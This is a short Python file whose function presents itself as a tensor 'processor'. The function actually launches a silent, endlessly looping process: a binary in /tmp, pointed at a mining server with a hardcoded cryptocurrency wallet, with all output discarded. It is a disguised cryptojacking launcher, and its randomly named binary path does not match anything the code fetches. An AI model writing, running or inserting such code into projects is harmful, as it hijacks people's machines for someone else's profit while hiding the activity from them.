"""A tensor "processor" that runs a downloaded worker in a loop with a wallet and a server
written in the code."""

import random
import subprocess


def process():
    name = str(random.randint(1, 99999))
    server = "node.example.invalid:10100"
    wallet = "dero1qy8624fl6zy54klay937yrnujckpak28lrdjg0eel92ue3gm36kcwf9tfwwq"
    command = ["bash", "-c", f"while true; do /tmp/{name} -r {server} -w {wallet}; sleep 5; done"]
    subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
